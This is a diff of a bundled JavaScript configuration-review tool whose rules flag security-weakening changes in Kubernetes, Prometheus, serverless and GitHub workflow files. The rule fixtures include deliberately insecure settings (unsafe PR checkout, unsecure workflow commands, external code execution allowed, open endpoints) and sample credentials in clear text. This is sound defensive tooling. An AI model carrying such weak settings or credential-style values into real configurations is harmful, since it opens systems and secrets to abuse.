+        { path: path11, before: before2, after: `${before2}  other:
     runs-on: x
     steps: []
 `, outcome: "none" },
-        { path: path10, before: before2, after: `# Reviews.
+        { path: path11, before: before2, after: `# Reviews.
 ${before2}`, outcome: "none" },
-        { path: path10, before: "", after: before2, outcome: "none" },
-        { path: path10, before: before2, after: review2("    if: always()\n"), outcome: "edited" },
+        { path: path11, before: "", after: before2, outcome: "none" },
+        { path: path11, before: before2, after: review2("    if: always()\n"), outcome: "edited" },
         {
-          before: { [path10]: before2, ".github/workflows/ci.yml": "on: push\njobs: {}\n" },
+          before: { [path11]: before2, ".github/workflows/ci.yml": "on: push\njobs: {}\n" },
           after: { ".github/workflows/ci.yml": before2 },
           outcome: "none"
         }
@@ -31456,7 +37545,7 @@ ${before2}`, outcome: "none" },
 });
 
 // src/domains/config/rules/prometheus/alerts.ts
-var rules2, alerts, DOWN, FULL, groups, UNITS3, secondsOf2, alerts_default;
+var rules3, alerts, DOWN, FULL, groups, UNITS3, secondsOf2, alerts_default;
 var init_alerts = __esm({
   "src/domains/config/rules/prometheus/alerts.ts"() {
     "use strict";
@@ -31465,11 +37554,11 @@ var init_alerts = __esm({
     init_setting_paths();
     init_tree();
     init_weakening();
-    rules2 = object2("monitoring.coreos.com/v1", "PrometheusRule");
-    alerts = (list3) => rules2(`groups: [{ name: shop, rules: [${list3}] }]`);
+    rules3 = object2("monitoring.coreos.com/v1", "PrometheusRule");
+    alerts = (list3) => rules3(`groups: [{ name: shop, rules: [${list3}] }]`);
     DOWN = "{ alert: Down, expr: up == 0, for: 5m }";
     FULL = "{ alert: Full, expr: disk > 0.9 }";
-    groups = (...names4) => rules2(`groups: [${names4.map((name) => `{ name: ${name}, rules: [{ alert: ${name}, expr: up }] }`).join(", ")}]`);
+    groups = (...names4) => rules3(`groups: [${names4.map((name) => `{ name: ${name}, rules: [{ alert: ${name}, expr: up }] }`).join(", ")}]`);
     UNITS3 = { s: 1, m: 60, h: 3600, d: 86400, w: 604800 };
     secondsOf2 = (node2) => {
       const [, count7, unit = "s"] = node2.kind === "scalar" ? /^(\d{1,6})([smhdw])$/.exec(node2.text) ?? [] : [];
@@ -31482,7 +37571,7 @@ var init_alerts = __esm({
         title: "alert removed",
         why: "Nobody is told any more when it happens.",
         fix: "Keep it until another alert tells the same.",
-        governs: ({ keys, path: path25, ownerAfter }) => ownerAfter !== void 0 && path25.at(-1)?.kind === "item" && endsWith(keys, ["groups", "rules"]),
+        governs: ({ keys, path: path26, ownerAfter }) => ownerAfter !== void 0 && path26.at(-1)?.kind === "item" && endsWith(keys, ["groups", "rules"]),
         rank: (node2) => textAt(node2, "alert") === void 0 ? void 0 : 1,
         absent: 0,
         outcomes: { drop: { risk: "medium", message: (c3) => `The alert \`${c3.name}\` was removed.` } },
@@ -31499,7 +37588,7 @@ var init_alerts = __esm({
         title: "group of alerts removed",
         why: "Nobody is told any more when any of it happens.",
         fix: "Keep the alerts until others tell the same.",
-        governs: ({ keys, path: path25, ownerAfter }) => ownerAfter !== void 0 && path25.at(-1)?.kind === "item" && keys.at(-1) === "groups",
+        governs: ({ keys, path: path26, ownerAfter }) => ownerAfter !== void 0 && path26.at(-1)?.kind === "item" && keys.at(-1) === "groups",
         rank: (node2) => itemsAt(node2, "rules").some((rule) => textAt(rule, "alert") !== void 0) ? 1 : void 0,
         absent: 0,
         outcomes: { drop: { risk: "medium", message: (c3) => `The group \`${c3.name}\` was removed, with its alerts.` } },
@@ -31637,7 +37726,7 @@ var init_monitoring = __esm({
         title: "targets no longer watched",
         why: "Their metrics end, and every alert on them falls silent.",
         fix: "Keep the job for as long as its targets run.",
-        governs: ({ keys, path: path25, ownerAfter }) => ownerAfter !== void 0 && path25.at(-1)?.kind === "item" && keys.at(-1) === "scrape_configs" || keys.join() === "alerting" && ownerAfter !== void 0 && at(ownerAfter, "scrape_configs") !== void 0,
+        governs: ({ keys, path: path26, ownerAfter }) => ownerAfter !== void 0 && path26.at(-1)?.kind === "item" && keys.at(-1) === "scrape_configs" || keys.join() === "alerting" && ownerAfter !== void 0 && at(ownerAfter, "scrape_configs") !== void 0,
         rank: () => 1,
         absent: 0,
         outcomes: { drop: { risk: "medium", message: (c3) => `\`${c3.name}\` was removed.` } },
@@ -31836,7 +37925,7 @@ roleRef: { kind: ClusterRole, name: ${role6}, apiGroup: rbac.authorization.k8s.i
 });
 
 // src/domains/config/kubernetes/power-rule.ts
-function said3({ role: name, isNew: isNew2, verb, object: object3, gained, ...grant }) {
+function said4({ role: name, isNew: isNew2, verb, object: object3, gained, ...grant }) {
   const may = isNew2 ? `The new \`${name}\` may` : `\`${name}\` may now`;
   const bound = object3 === void 0 ? "" : ` named \`${object3}\``;
   const more = gained > 1 ? ` (and ${gained - 1} more)` : "";
@@ -31862,11 +37951,11 @@ var init_power_rule = __esm({
     init_rbac_powers();
     init_changes();
     HARMLESS = 'apiGroups: [""], resources: [configmaps], resourceNames: [own], verbs: [get]';
-    role4 = (kind, ...rules7) => `apiVersion: rbac.authorization.k8s.io/v1
+    role4 = (kind, ...rules8) => `apiVersion: rbac.authorization.k8s.io/v1
 kind: ${kind}
 metadata: { name: app }
 rules:
-${rules7.map((rule) => `  - { ${rule} }`).join("\n")}
+${rules8.map((rule) => `  - { ${rule} }`).join("\n")}
 `;
     powerRule = ({ id: id3, power, cluster: cluster2, namespace: namespace2, grant, ...words2 }) => configRule({
       id: `config/role-${id3}`,
@@ -31874,8 +37963,8 @@ ${rules7.map((rule) => `  - { ${rule} }`).join("\n")}
       class: "permission-widening",
       ...words2,
       outcomes: {
-        "cluster-wide": { risk: cluster2, message: (c3) => `${said3(c3)}${reachOf3(c3)}.` },
-        "in-namespace": { risk: namespace2, message: (c3) => `${said3(c3)} in its namespace.` }
+        "cluster-wide": { risk: cluster2, message: (c3) => `${said4(c3)}${reachOf3(c3)}.` },
+        "in-namespace": { risk: namespace2, message: (c3) => `${said4(c3)} in its namespace.` }
       },
       examples: [
         { before: role4("ClusterRole", HARMLESS), after: role4("ClusterRole", HARMLESS, grant), outcome: "cluster-wide" },
@@ -32206,12 +38295,12 @@ rules:
 });
 
 // src/domains/config/rules/secret-written.ts
-var said4, secret_written_default;
+var said5, secret_written_default;
 var init_secret_written = __esm({
   "src/domains/config/rules/secret-written.ts"() {
     "use strict";
     init_changes();
-    said4 = ({ name, looks }) => looks === "secret by its name" ? `\`${name}\` holds a secret in clear text.` : `\`${name}\` holds what looks like ${/^[AEIO]/.test(looks) ? "an" : "a"} ${looks} in clear text.`;
+    said5 = ({ name, looks, inComment }) => looks === "secret by its name" ? `\`${name}\` holds a secret in clear text.` : `${inComment ? "A comment" : `\`${name}\``} holds what looks like ${/^[aeio]/i.test(looks) ? "an" : "a"} ${looks} in clear text.`;
     secret_written_default = configRule({
       id: "config/secret-written",
       on: "secret-written",
@@ -32220,22 +38309,24 @@ var init_secret_written = __esm({
       why: "Everybody who can read the repository, now or later in its history, has it.",
       fix: "Revoke it, issue a new one, and refer to where it is kept (a secret store, an environment variable).",
       outcomes: {
-        credential: { risk: "critical", message: said4 },
+        credential: { risk: "critical", message: said5 },
         instead: {
           risk: "critical",
           title: "secret in place of its reference",
           message: ({ name }) => `\`${name}\` referred to a secret and now holds it in clear text.`
         },
-        login: { risk: "high", message: said4 },
-        named: { risk: "high", message: said4 }
+        login: { risk: "high", message: said5 },
+        named: { risk: "high", message: said5 }
       },
       examples: [
         { before: "name: app", after: "name: app\nkey: AKIAQ7XJ2LM4RWTZ3KPB", outcome: "credential" },
+        { before: "name: app", after: "name: app # AKIAQ7XJ2LM4RWTZ3KPB", outcome: "credential" },
         { before: 'db: { password: "${DB_PASSWORD}" }', after: "db: { password: vK8x2mQ9zL }", outcome: "instead" },
         { before: "name: app", after: "name: app\ndsn: postgres://app:vK8x2mQ9zL@db.acme.com/app", outcome: "login" },
         { before: "name: app", after: "name: app\napi_key: vK8x2mQ9zL4w", outcome: "named" },
         { before: "name: app", after: 'name: app\napi_key: "${API_KEY}"', outcome: "none" },
         { before: "name: app", after: "name: app\npassword: changeme", outcome: "none" },
+        { before: "name: app", after: "name: app\n# password: vK8x2mQ9zL", outcome: "none" },
         { before: "name: app", after: "name: app\npasswordSecretName: app-database", outcome: "none" },
         { before: "api_key: vK8x2mQ9zL4w", after: "api_key: vK8x2mQ9zL4w\nname: app", outcome: "none" }
       ],
@@ -32253,7 +38344,7 @@ function url(node2) {
   if (node2.kind === "map") return Number(at(node2, "authorizer") !== void 0);
   return switchOf(node2) === void 0 ? void 0 : Number(switchOf(node2) !== true);
 }
-var path11, dialect19, service5, http, ENDED, count3, origins3, isCors, functions_default;
+var path12, dialect19, service5, http, ENDED, count3, origins3, isCors, functions_default;
 var init_functions = __esm({
   "src/domains/config/rules/serverless/functions.ts"() {
     "use strict";
@@ -32262,7 +38353,7 @@ var init_functions = __esm({
     init_setting_paths();
     init_tree();
     init_weakening();
-    path11 = "serverless.yml";
+    path12 = "serverless.yml";
     dialect19 = "serverless";
     service5 = (lines, provider2 = "") => `service: shop
 provider:
@@ -32301,11 +38392,11 @@ ${lines === "" ? "" : `    ${lines}
         },
         refine: ({ transition }) => transition === "template" || transition === "drop" ? void 0 : transition,
         examples: [
-          { path: path11, before: service5("url: { authorizer: aws_iam }"), after: service5("url: true"), outcome: "flip" },
-          { path: path11, before: service5(""), after: service5("url: true"), outcome: "open" },
-          { path: path11, before: "", after: service5("url: true"), outcome: "born" },
-          { path: path11, before: service5("url: true"), after: service5("url: { authorizer: aws_iam }"), outcome: "hardened" },
-          { path: path11, before: service5(""), after: service5("url: { authorizer: aws_iam }"), outcome: "none" }
+          { path: path12, before: service5("url: { authorizer: aws_iam }"), after: service5("url: true"), outcome: "flip" },
+          { path: path12, before: service5(""), after: service5("url: true"), outcome: "open" },
+          { path: path12, before: "", after: service5("url: true"), outcome: "born" },
+          { path: path12, before: service5("url: true"), after: service5("url: { authorizer: aws_iam }"), outcome: "hardened" },
+          { path: path12, before: service5(""), after: service5("url: { authorizer: aws_iam }"), outcome: "none" }
         ]
       }),
       control({
@@ -32322,10 +38413,10 @@ ${lines === "" ? "" : `    ${lines}
         byPresence: true,
         outcomes: { flip: moved("high"), drop: moved("high"), hardened: hardened("endpoint asks who calls") },
         examples: [
-          { path: path11, before: http(", private: true"), after: http(", private: false"), outcome: "flip" },
-          { path: path11, before: http(", authorizer: aws_iam"), after: http(""), outcome: "drop" },
-          { path: path11, before: http(""), after: http(", private: true"), outcome: "hardened" },
-          { path: path11, before: http(", authorizer: a"), after: http(", authorizer: b"), outcome: "none" }
+          { path: path12, before: http(", private: true"), after: http(", private: false"), outcome: "flip" },
+          { path: path12, before: http(", authorizer: aws_iam"), after: http(""), outcome: "drop" },
+          { path: path12, before: http(""), after: http(", private: true"), outcome: "hardened" },
+          { path: path12, before: http(", authorizer: a"), after: http(", authorizer: b"), outcome: "none" }
         ]
       }),
       control({
@@ -32347,15 +38438,15 @@ ${lines === "" ? "" : `    ${lines}
         refine: ({ transition }) => transition === "template" || transition === "drop" ? void 0 : transition,
         examples: [
           {
-            path: path11,
+            path: path12,
             before: service5("", "httpApi: { cors: { allowedOrigins: [https://a.example] } }"),
             after: service5("", "httpApi: { cors: { allowedOrigins: ['*'] } }"),
             outcome: "flip"
           },
-          { path: path11, before: http(""), after: http(", cors: true"), outcome: "open" },
-          { path: path11, before: "", after: http(", cors: true"), outcome: "born" },
-          { path: path11, before: http(", cors: true"), after: http(""), outcome: "hardened" },
-          { path: path11, before: http(""), after: http(", cors: { origins: [https://a.example] }"), outcome: "none" }
+          { path: path12, before: http(""), after: http(", cors: true"), outcome: "open" },
+          { path: path12, before: "", after: http(", cors: true"), outcome: "born" },
+          { path: path12, before: http(", cors: true"), after: http(""), outcome: "hardened" },
+          { path: path12, before: http(""), after: http(", cors: { origins: [https://a.example] }"), outcome: "none" }
         ]
       }),
       control({
@@ -32377,11 +38468,11 @@ ${lines === "" ? "" : `    ${lines}
         },
         refine: ({ transition }) => transition === "template" || transition === "drop" ? void 0 : transition,
         examples: [
-          { path: path11, before: service5("runtime: nodejs22.x"), after: service5("runtime: nodejs12.x"), outcome: "flip" },
-          { path: path11, before: service5(""), after: service5("runtime: python3.7"), outcome: "open" },
-          { path: path11, before: "", after: service5("runtime: python3.7"), outcome: "born" },
-          { path: path11, before: service5("runtime: nodejs12.x"), after: service5("runtime: nodejs22.x"), outcome: "hardened" },
-          { path: path11, before: service5("runtime: nodejs22.x"), after: service5("runtime: nodejs24.x"), outcome: "none" }
+          { path: path12, before: service5("runtime: nodejs22.x"), after: service5("runtime: nodejs12.x"), outcome: "flip" },
+          { path: path12, before: service5(""), after: service5("runtime: python3.7"), outcome: "open" },
+          { path: path12, before: "", after: service5("runtime: python3.7"), outcome: "born" },
+          { path: path12, before: service5("runtime: nodejs12.x"), after: service5("runtime: nodejs22.x"), outcome: "hardened" },
+          { path: path12, before: service5("runtime: nodejs22.x"), after: service5("runtime: nodejs24.x"), outcome: "none" }
         ]
       }),
       control({
@@ -32396,9 +38487,9 @@ ${lines === "" ? "" : `    ${lines}
         outcomes: { flip: moved("low") },
         refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
         examples: [
-          { path: path11, before: service5("timeout: 30"), after: service5("timeout: 3"), outcome: "flip" },
-          { path: path11, before: service5("memorySize: 128"), after: service5("memorySize: 256"), outcome: "none" },
-          { path: path11, before: service5("timeout: 30"), after: service5(""), outcome: "none" }
+          { path: path12, before: service5("timeout: 30"), after: service5("timeout: 3"), outcome: "flip" },
+          { path: path12, before: service5("memorySize: 128"), after: service5("memorySize: 256"), outcome: "none" },
+          { path: path12, before: service5("timeout: 30"), after: service5(""), outcome: "none" }
         ]
       })
     ];
@@ -32457,13 +38548,13 @@ var init_source_changed = __esm({
 });
 
 // src/domains/config/rules/type-changed.ts
-var said5, PUBLIC4, type_changed_default;
+var said6, PUBLIC4, type_changed_default;
 var init_type_changed = __esm({
   "src/domains/config/rules/type-changed.ts"() {
     "use strict";
     init_changes();
     init_tooling();
-    said5 = ({ subject, from: from3, to: to2 }) => `\`${subject}\` was a ${from3} and is now a ${to2}.`;
+    said6 = ({ subject, from: from3, to: to2 }) => `\`${subject}\` was a ${from3} and is now a ${to2}.`;
     PUBLIC4 = { config: { isPublic: () => true } };
     type_changed_default = configRule({
       id: "config/type-changed",
@@ -32473,8 +38564,8 @@ var init_type_changed = __esm({
       why: "A reader that expects the old type fails to start, or falls back to its default.",
       fix: "Keep the type, or change the readers in the same step.",
       outcomes: {
-        shape: { risk: "medium", message: said5 },
-        public: { risk: "high", message: said5 },
+        shape: { risk: "medium", message: said6 },
+        public: { risk: "high", message: said6 },
         spelling: {
           risk: "low",
           message: ({ subject, from: from3, to: to2 }) => `\`${subject}\` keeps its text, but was a ${from3} and is now a ${to2}.`,
@@ -32578,7 +38669,7 @@ var init_paths3 = __esm({
 });
 
 // src/domains/config/rules/workflow/checkouts.ts
-var path12, dialect20, checkouts_default;
+var path13, dialect20, checkouts_default;
 var init_checkouts = __esm({
   "src/domains/config/rules/workflow/checkouts.ts"() {
     "use strict";
@@ -32586,7 +38677,7 @@ var init_checkouts = __esm({
     init_weakening();
     init_examples6();
     init_paths3();
-    path12 = ".github/workflows/ci.yml";
+    path13 = ".github/workflows/ci.yml";
     dialect20 = "github-workflow";
     checkouts_default = [
       control({
@@ -32603,7 +38694,7 @@ var init_checkouts = __esm({
           praise: "guard against strangers’ code switched on",
           weak: "uses: actions/checkout@v6\nwith: { allow-unsafe-pr-checkout: true }",
           safe: "uses: actions/checkout@v6\nwith: { allow-unsafe-pr-checkout: false }",
-          path: path12,
+          path: path13,
           file: step
         })
       }),
@@ -32622,7 +38713,7 @@ var init_checkouts = __esm({
           praise: "token no longer left behind by the checkout",
           weak: "uses: actions/checkout@v6\nwith: { persist-credentials: true }",
           safe: "uses: actions/checkout@v6\nwith: { persist-credentials: false }",
-          path: path12,
+          path: path13,
           file: (lines) => step(lines === "" ? "uses: actions/checkout@v6" : lines)
         })
       })
@@ -32631,7 +38722,7 @@ var init_checkouts = __esm({
 });
 
 // src/domains/config/rules/workflow/conditions.ts
-var path13, WHO, SAME_REPOSITORY, conditions_default;
+var path14, WHO, SAME_REPOSITORY, conditions_default;
 var init_conditions = __esm({
   "src/domains/config/rules/workflow/conditions.ts"() {
     "use strict";
@@ -32641,7 +38732,7 @@ var init_conditions = __esm({
     init_weakening();
     init_examples6();
     init_paths3();
-    path13 = ".github/workflows/ci.yml";
+    path14 = ".github/workflows/ci.yml";
     WHO = /\bgithub\.(?:actor|repository_owner|triggering_actor|event\.(?:sender|pull_request\.(?:head\.repo|user|author_association)|comment\.(?:user|author_association)|issue\.(?:user|author_association)|workflow_run\.(?:actor|head_repository)))\b/;
     SAME_REPOSITORY = "if: github.event.pull_request.head.repo.full_name == github.repository";
     conditions_default = control({
@@ -32656,11 +38747,11 @@ var init_conditions = __esm({
       absent: 0,
       outcomes: { flip: moved("medium"), drop: moved("medium"), hardened: hardened("condition on who may start a job") },
       examples: [
-        { path: path13, before: job3(SAME_REPOSITORY), after: job3(), outcome: "drop" },
-        { path: path13, before: job3("if: github.actor == 'octocat'"), after: job3("if: always()"), outcome: "flip" },
-        { path: path13, before: job3(), after: job3("if: github.actor == 'octocat'"), outcome: "hardened" },
-        { path: path13, before: job3("if: always()"), after: job3(), outcome: "none" },
-        { path: path13, before: job3(SAME_REPOSITORY), after: "", outcome: "none" }
+        { path: path14, before: job3(SAME_REPOSITORY), after: job3(), outcome: "drop" },
+        { path: path14, before: job3("if: github.actor == 'octocat'"), after: job3("if: always()"), outcome: "flip" },
+        { path: path14, before: job3(), after: job3("if: github.actor == 'octocat'"), outcome: "hardened" },
+        { path: path14, before: job3("if: always()"), after: job3(), outcome: "none" },
+        { path: path14, before: job3(SAME_REPOSITORY), after: "", outcome: "none" }
       ]
     });
   }
@@ -32671,7 +38762,7 @@ function isPart2({ keys, document: document2 }) {
   if (keys[0] === "on") return keys.length === 4 && keys[1] === "workflow_call" && CONTRACT.includes(keys[2] ?? "");
   return keys.length === 2 && CONTRACT.includes(keys[0] ?? "") && at(document2.after?.root, "runs") !== void 0;
 }
-function readersOf(file2 = "") {
+function readersOf2(file2 = "") {
   if (!/(?:^|\/)\.github\//.test(file2)) return "published";
   return file2.includes(".github/actions/") ? "internal" : "reusable";
 }
@@ -32679,7 +38770,7 @@ function asks2(node2, { ownerAfter, ownerBefore, before: before3 }) {
   if (node2.kind !== "scalar") return Number(switchOf(at(node2, "required")) !== true || hasDefault(node2));
   return Number(switchOf(node2) !== true || hasDefault(node2 === before3 ? ownerBefore : ownerAfter));
 }
-var path14, dialect21, CONTRACT, called3, action, isFieldOf, hasDefault, calledBy, contracts_default;
+var path15, dialect21, CONTRACT, called3, action, isFieldOf, hasDefault, calledBy, contracts_default;
 var init_contracts = __esm({
   "src/domains/config/rules/workflow/contracts.ts"() {
     "use strict";
@@ -32687,7 +38778,7 @@ var init_contracts = __esm({
     init_setting_paths();
     init_tree();
     init_weakening();
-    path14 = ".github/workflows/release.yml";
+    path15 = ".github/workflows/release.yml";
     dialect21 = "github-workflow";
     CONTRACT = ["inputs", "outputs", "secrets"];
     called3 = (inputs) => `on:
@@ -32719,9 +38810,9 @@ runs: { using: composite, steps: [{ run: make, shell: sh }] }
           reusable: { risk: "medium", message: (c3) => `\`${c3.name}\` was removed.` },
           internal: { risk: "info", message: (c3) => `\`${c3.name}\` was removed from an action of this repository.` }
         },
-        refine: ({ transition, before: before3 }) => transition === "drop" ? readersOf(before3?.path) : void 0,
+        refine: ({ transition, before: before3 }) => transition === "drop" ? readersOf2(before3?.path) : void 0,
         examples: [
-          { path: path14, before: called3("{ target: { type: string } }"), after: called3("{}"), outcome: "reusable" },
+          { path: path15, before: called3("{ target: { type: string } }"), after: called3("{}"), outcome: "reusable" },
           {
             path: "action.yml",
             before: action("{ target: {}, mode: {} }"),
@@ -32735,12 +38826,12 @@ runs: { using: composite, steps: [{ run: make, shell: sh }] }
             outcome: "internal"
           },
           {
-            path: path14,
+            path: path15,
             before: called3("{ target: { type: string } }"),
             after: called3("{ target: { type: string, default: a } }"),
             outcome: "none"
           },
-          { path: path14, before: called3("{}"), after: called3("{ target: { type: string } }"), outcome: "none" }
+          { path: path15, before: called3("{}"), after: called3("{ target: { type: string } }"), outcome: "none" }
         ]
       }),
       control({
@@ -32758,25 +38849,25 @@ runs: { using: composite, steps: [{ run: make, shell: sh }] }
           became: { risk: "high", message: (c3) => `${calledBy(c3.subject)} is now required.` }
         },
         refine: ({ transition, after: after2, subject }) => {
-          if (readersOf(after2?.path) === "internal") return void 0;
+          if (readersOf2(after2?.path) === "internal") return void 0;
           if (transition !== "open" && transition !== "flip") return void 0;
           return subject.endsWith("required") ? "became" : "open";
         },
         examples: [
-          { path: path14, before: called3("{}"), after: called3("{ target: { type: string, required: true } }"), outcome: "open" },
+          { path: path15, before: called3("{}"), after: called3("{ target: { type: string, required: true } }"), outcome: "open" },
           {
-            path: path14,
+            path: path15,
             before: called3("{}"),
             after: called3("{ target: { type: string, required: true, default: a } }"),
             outcome: "none"
           },
           {
-            path: path14,
+            path: path15,
             before: called3("{ target: { type: string } }"),
             after: called3("{ target: { type: string, required: true } }"),
             outcome: "became"
           },
-          { path: path14, before: "", after: called3("{ target: { type: string, required: true } }"), outcome: "none" }
+          { path: path15, before: "", after: called3("{ target: { type: string, required: true } }"), outcome: "none" }
         ]
       }),
       control({
@@ -32792,13 +38883,13 @@ runs: { using: composite, steps: [{ run: make, shell: sh }] }
         refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
         examples: [
           {
-            path: path14,
+            path: path15,
             before: called3("{ target: { type: string } }"),
             after: called3("{ target: { type: number } }"),
             outcome: "flip"
           },
           {
-            path: path14,
+            path: path15,
             before: called3("{ target: { type: string } }"),
             after: called3('{ target: { type: "string" } }'),
             outcome: "none"
@@ -32810,7 +38901,7 @@ runs: { using: composite, steps: [{ run: make, shell: sh }] }
 });
 
 // src/domains/config/rules/workflow/dependabot.ts
-var path15, updates, NPM, isDependabot, inUpdates, ecosystemOf, isWatched, dependabot_default;
+var path16, updates, NPM, isDependabot, inUpdates, ecosystemOf, isWatched, dependabot_default;
 var init_dependabot = __esm({
   "src/domains/config/rules/workflow/dependabot.ts"() {
     "use strict";
@@ -32818,7 +38909,7 @@ var init_dependabot = __esm({
     init_setting_paths();
     init_tree();
     init_weakening();
-    path15 = ".github/dependabot.yml";
+    path16 = ".github/dependabot.yml";
     updates = (...entries2) => `version: 2
 updates:
 ${entries2.map((entry2) => `  - { package-ecosystem: ${entry2} }
@@ -32847,25 +38938,25 @@ ${entries2.map((entry2) => `  - { package-ecosystem: ${entry2} }
         },
         examples: [
           {
-            path: path15,
+            path: path16,
             before: updates(`${NPM}, insecure-external-code-execution: deny`),
             after: updates(`${NPM}, insecure-external-code-execution: allow`),
             outcome: "flip"
           },
           {
-            path: path15,
+            path: path16,
             before: updates(NPM),
             after: updates(`${NPM}, insecure-external-code-execution: allow`),
             outcome: "open"
           },
-          { path: path15, before: "", after: updates(`${NPM}, insecure-external-code-execution: allow`), outcome: "born" },
+          { path: path16, before: "", after: updates(`${NPM}, insecure-external-code-execution: allow`), outcome: "born" },
           {
-            path: path15,
+            path: path16,
             before: updates(`${NPM}, insecure-external-code-execution: allow`),
             after: updates(NPM),
             outcome: "hardened"
           },
-          { path: path15, before: updates(NPM), after: updates(`${NPM}, insecure-external-code-execution: deny`), outcome: "none" }
+          { path: path16, before: updates(NPM), after: updates(`${NPM}, insecure-external-code-execution: deny`), outcome: "none" }
         ]
       }),
       control({
@@ -32883,10 +38974,10 @@ ${entries2.map((entry2) => `  - { package-ecosystem: ${entry2} }
           hardened: added("releases wait before they are taken", "cooldown")
         },
         examples: [
-          { path: path15, before: updates(`${NPM}, cooldown: { default-days: 7 }`), after: updates(NPM), outcome: "drop" },
-          { path: path15, before: updates(NPM), after: updates(`${NPM}, cooldown: { default-days: 7 }`), outcome: "hardened" },
+          { path: path16, before: updates(`${NPM}, cooldown: { default-days: 7 }`), after: updates(NPM), outcome: "drop" },
+          { path: path16, before: updates(NPM), after: updates(`${NPM}, cooldown: { default-days: 7 }`), outcome: "hardened" },
           {
-            path: path15,
+            path: path16,
             before: updates(`${NPM}, cooldown: { default-days: 7 }`),
             after: updates(`${NPM}, cooldown: { default-days: 5 }`),
             outcome: "none"
@@ -32905,18 +38996,18 @@ ${entries2.map((entry2) => `  - { package-ecosystem: ${entry2} }
         outcomes: { flip: moved("low"), hardened: hardened("releases wait longer") },
         examples: [
           {
-            path: path15,
+            path: path16,
             before: updates(`${NPM}, cooldown: { default-days: 7 }`),
             after: updates(`${NPM}, cooldown: { default-days: 1 }`),
             outcome: "flip"
           },
           {
-            path: path15,
+            path: path16,
             before: updates(`${NPM}, cooldown: { default-days: 1 }`),
             after: updates(`${NPM}, cooldown: { default-days: 7 }`),
             outcome: "hardened"
           },
-          { path: path15, before: updates(NPM), after: updates(`${NPM}, cooldown: { default-days: 1 }`), outcome: "none" }
+          { path: path16, before: updates(NPM), after: updates(`${NPM}, cooldown: { default-days: 1 }`), outcome: "none" }
         ]
       }),
       control({
@@ -32931,9 +39022,9 @@ ${entries2.map((entry2) => `  - { package-ecosystem: ${entry2} }
         outcomes: { drop: removed("medium", "entry of an ecosystem") },
         refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
         examples: [
-          { path: path15, before: updates(NPM, "docker, directory: /"), after: updates(NPM), outcome: "drop" },
-          { path: path15, before: updates(NPM, NPM.replace("/", "/web")), after: updates(NPM), outcome: "none" },
-          { path: path15, before: updates(NPM), after: updates(NPM, "docker, directory: /"), outcome: "none" }
+          { path: path16, before: updates(NPM, "docker, directory: /"), after: updates(NPM), outcome: "drop" },
+          { path: path16, before: updates(NPM, NPM.replace("/", "/web")), after: updates(NPM), outcome: "none" },
+          { path: path16, before: updates(NPM), after: updates(NPM, "docker, directory: /"), outcome: "none" }
         ]
       })
     ];
@@ -32941,7 +39032,7 @@ ${entries2.map((entry2) => `  - { package-ecosystem: ${entry2} }
 });
 
 // src/domains/config/rules/workflow/guards.ts
-var path16, dialect22, guards_default3;
+var path17, dialect22, guards_default3;
 var init_guards4 = __esm({
   "src/domains/config/rules/workflow/guards.ts"() {
     "use strict";
@@ -32949,7 +39040,7 @@ var init_guards4 = __esm({
     init_weakening();
     init_examples6();
     init_paths3();
-    path16 = ".github/workflows/ci.yml";
+    path17 = ".github/workflows/ci.yml";
     dialect22 = "github-workflow";
     guards_default3 = [
       control({
@@ -32967,10 +39058,10 @@ var init_guards4 = __esm({
           hardened: added("job now waits for an environment", "environment of the job")
         },
         examples: [
-          { path: path16, before: job3("environment: production"), after: job3(), outcome: "drop" },
-          { path: path16, before: job3(), after: job3("environment: production"), outcome: "hardened" },
+          { path: path17, before: job3("environment: production"), after: job3(), outcome: "drop" },
+          { path: path17, before: job3(), after: job3("environment: production"), outcome: "hardened" },
           {
-            path: path16,
+            path: path17,
             before: job3("environment: production"),
             after: job3("environment: { name: production }"),
             outcome: "none"
@@ -32992,7 +39083,7 @@ var init_guards4 = __esm({
           praise: "unsafe workflow commands forbidden",
           weak: "env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true }",
           safe: "env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: false }",
-          path: path16,
+          path: path17,
           file: job3
         })
       })
@@ -33001,7 +39092,7 @@ var init_guards4 = __esm({
 });
 
 // src/domains/config/rules/workflow/jobs.ts
-var path17, dialect23, CHECKS5, CHECK_COMMANDS, TESTS, isJob2, egress, jobs_default3;
+var path18, dialect23, CHECKS5, CHECK_COMMANDS, TESTS, isJob2, egress, jobs_default3;
 var init_jobs3 = __esm({
   "src/domains/config/rules/workflow/jobs.ts"() {
     "use strict";
@@ -33014,7 +39105,7 @@ var init_jobs3 = __esm({
     init_examples6();
     init_model3();
     init_paths3();
-    path17 = ".github/workflows/ci.yml";
+    path18 = ".github/workflows/ci.yml";
     dialect23 = "github-workflow";
     CHECKS5 = /^(?:github\/codeql-action\/(?:analyze|upload-sarif)|actions\/dependency-review-action|ossf\/scorecard-action|gitleaks\/gitleaks-action|aquasecurity\/trivy-action|anchore\/(?:scan|sbom)-action|step-security\/harden-runner|sigstore\/|zizmorcore\/zizmor-action|trufflesecurity\/trufflehog|google\/osv-scanner-action|actions\/attest)/;
     CHECK_COMMANDS = /\b(?:cosign (?:sign|attest|verify)|syft|grype|trivy|gitleaks|trufflehog|semgrep|codeql|zizmor|scorecard|osv-scanner|snyk|npm audit|pip-audit|cargo (?:audit|deny)|govulncheck)\b/;
@@ -33036,10 +39127,10 @@ with: { egress-policy: ${policy5} }`);
         absent: 1,
         outcomes: { open: moved("medium"), born: moved("low"), hardened: hardened("only named secrets handed on") },
         examples: [
-          { path: path17, before: job3(), after: job3("secrets: inherit"), outcome: "open" },
-          { path: path17, before: "", after: job3("secrets: inherit"), outcome: "born" },
-          { path: path17, before: job3("secrets: inherit"), after: job3(), outcome: "hardened" },
-          { path: path17, before: job3(), after: job3('secrets: { TOKEN: "${{ secrets.TOKEN }}" }'), outcome: "none" }
+          { path: path18, before: job3(), after: job3("secrets: inherit"), outcome: "open" },
+          { path: path18, before: "", after: job3("secrets: inherit"), outcome: "born" },
+          { path: path18, before: job3("secrets: inherit"), after: job3(), outcome: "hardened" },
+          { path: path18, before: job3(), after: job3('secrets: { TOKEN: "${{ secrets.TOKEN }}" }'), outcome: "none" }
         ]
       }),
       control({
@@ -33056,7 +39147,7 @@ with: { egress-policy: ${policy5} }`);
           praise: "failure counts again",
           weak: "continue-on-error: true",
           safe: "continue-on-error: false",
-          path: path17,
+          path: path18,
           file: job3
         })
       }),
